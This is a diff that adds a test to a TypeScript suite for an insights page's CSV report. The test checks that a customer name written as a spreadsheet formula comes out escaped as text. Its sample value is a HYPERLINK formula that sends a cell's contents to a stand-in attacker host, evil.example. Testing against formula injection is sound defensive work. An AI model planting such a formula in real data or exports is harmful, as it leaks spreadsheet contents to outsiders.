@@ -88,6 +88,22 @@ describe('the insights page and its API (PGlite, real Chromium)', () => {
     expect((await csv.text()).split('\n')[0]).toBe('section,group,kind,metric,value');
   });
 
+  it('writes a customer named like a spreadsheet formula as text in the CSV report', async () => {
+    const churner = history.companies.find((c) => c.willChurn)!;
+    const formula = '=HYPERLINK("https://evil.example/?"&A2,"Open")';
+    const company = await t.db.prisma.company.findFirstOrThrow({ where: { name: churner.name } });
+    await t.db.prisma.company.update({ where: { id: company.id }, data: { name: formula } });
+    try {
+      const csv = await (await fetch(`${base}/api/insights/report?format=csv&fresh=1&all=1`)).text();
+      const rows = csv.trim().split('\n');
+      expect(rows.some((r) => r.includes(`"'=HYPERLINK(""https://evil.example/?""&A2,""Open"")"`))).toBe(true);
+      // No field of any row starts a formula (a quoted field's content neither).
+      for (const row of rows) for (const field of row.split(',')) expect(field.replace(/^"/, '')).not.toMatch(/^[=+@]/);
+    } finally {
+      await t.db.prisma.company.update({ where: { id: company.id }, data: { name: company.name } });
+    }
+  });
+
   it("serves whole-team figures from the refresh job's snapshot while fresh, and from its rollups with fresh=1, a customer or another period", async () => {
     await refreshInsightSnapshots(t.db, SETTINGS, NOW, ['30d']);
     const snap = await (await fetch(`${base}/api/insights/health?since=30d`)).json();
